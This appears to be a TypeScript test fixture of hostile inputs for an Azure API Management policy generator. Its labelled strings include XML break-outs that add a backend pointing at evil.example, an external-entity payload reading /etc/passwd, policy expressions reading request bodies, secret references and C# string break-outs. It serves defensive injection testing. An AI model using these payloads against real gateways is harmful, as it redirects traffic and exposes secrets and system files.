/** Markup that would send every request to another backend, were it ever rendered as XML. */
export const EVIL_BACKEND = '<set-backend-service base-url="https://evil.example"/>';

/**
 * Text that tries to become policy: markup, entities, CDATA, APIM policy
 * expressions and named values, C# string break-outs, line breaks and
 * look-alikes of `<` and `>`. Each with what it tries.
 */
export const HOSTILE_TEXT: readonly (readonly [string, string])[] = [
  ['closes the cors policy, adds a backend', `</origin></allowed-origins></cors>${EVIL_BACKEND}`],
  ['closes an attribute', `" calls="999999" x="`],
  ['escaped markup', '&lt;set-backend-service base-url=&quot;https://evil.example&quot;/&gt;'],
  ['numeric character references', '&#x3C;set-backend-service/&#x3E;&#64;(1)'],
  ['entity declaration', '<!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'],
  ['CDATA', `<![CDATA[${EVIL_BACKEND}]]>`],
  ['comment and processing instruction', '<!-- x --><?xml-stylesheet href="x"?>'],
  ['expression', '@(context.Request.Body.As<string>())'],
  ['block expression', '@{ return "x"; }'],
  ['named value', '{{backend-secret}}'],
  ['C# string break-out', 'X-Id",""))+context.Request.Body.As<string>()+(("'],
  ['newline then markup', `https://a.example\n${EVIL_BACKEND}`],
  ['CR, LF and tab', 'X-Id\r\n\t@(1)'],
  ['fullwidth angle brackets', '＜set-backend-service base-url="https://evil.example"/＞'],
  ['single angle quotes', '‹set-backend-service›'],
  ['NUL and bidi override', 'X-Id\u0000\u202e@(1)'],
  ['expression after a valid origin', 'https://a.example/@(1)'],
  ['expression as a port', 'https://a.example:@(1)'],
];
